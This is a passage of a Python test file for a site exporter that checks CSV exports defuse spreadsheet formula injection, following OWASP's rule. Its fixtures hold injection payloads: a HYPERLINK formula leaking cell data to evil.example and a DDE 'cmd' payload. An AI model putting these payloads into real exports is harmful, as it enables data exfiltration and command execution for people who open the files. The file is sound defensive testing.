    settings = fixture_settings(tmp_path, tmp_path / "out")
    site = export_site(settings, read_settings(settings), VOCABULARY)
    cache = PieceCache(settings, site)
    assert write_export_files(Timeline([]), site, str(tmp_path / "a"), cache) == {}
    files = written(tmp_path / "a")
    jsonschema.Draft202012Validator(SCHEMA).validate(json.loads(files["timeline.json"]))
    feed = feedparser.parse(files["feeds/all.atom.xml"])
    assert not feed.bozo and feed.entries == []
    assert feed.feed.updated == EPOCH.isoformat()
    assert files["timeline.csv"].decode() == ",".join(COLUMNS) + "\r\n"
    assert list(icalendar.Calendar.from_ical(files["timeline.ics"]).walk("VEVENT")) == []
    assert json.loads(files["feed.json"])["items"] == []
    assert json.loads(files["timelinejs.json"])["events"] == []
    write_export_files(Timeline([]), site, str(tmp_path / "b"), cache)
    assert written(tmp_path / "b") == files


FORMULAS = {
    "entries/2024/2024-04-16-announcement.md": (
        "Title: The government announces a widget safety rule",
        'Title: =HYPERLINK("https://evil.example/?"&A1,"Click")'),
    "people/jane-widget.md": ("Name: Jane Widget", "Name: @SUM(1+1)*cmd|' /C calc'!A0"),
    "questions/penalties.md": (
        "Title: Should selling an unsafe widget carry a prison sentence?", "Title: -2+3+cmd|x"),
    "amendments/wsb-nc1.md": ("Title: Safety label on widgets", "Title: +1+1"),
    "divisions/2024-05-15-commons-nc1.md": (
        "Question: That new clause 1 be read a second time", "Question: \uff1d1+1"),
    "versions/wsb-nc1-report.md": (
        "Title: New clause 1, as tabled for report stage", "Title: =1+1"),
}


def test_no_csv_cell_starts_a_spreadsheet_formula(fixture_site, tmp_path):
    """OWASP's CSV injection rule, in all six CSV files: a cell that starts with
    = + - @ (or a tab, CR, NUL, or a full-width sign) starts with a quote."""
    for name, (old, new) in FORMULAS.items():
        path = fixture_site / name
        text = path.read_text(encoding="utf-8")
        assert old in text
        path.write_text(text.replace(old, new), encoding="utf-8")
    out = build(fixture_site, tmp_path / "out")
    cells = {}
    for name in ("timeline.csv", *(f"{kind}.csv" for kind in RECORD_COLUMNS)):
        _, rows = read_csv(out / name)
        for row in rows:
            for column, value in row.items():
                assert not value.startswith(
                    ("=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
                ), (name, column, value)
                cells.setdefault(name, set()).add(value)
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")" in cells["timeline.csv"]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells["people.csv"]
    assert "'-2+3+cmd|x" in cells["questions.csv"]
    assert "'+1+1" in cells["amendments.csv"]
    assert "'\uff1d1+1" in cells["divisions.csv"]
    assert "'=1+1" in cells["versions.csv"]
    # The JSON keeps the text as written: only the spreadsheet files are guarded.
    assert '"title": "=1+1"' in (out / "timeline.json").read_text(encoding="utf-8")
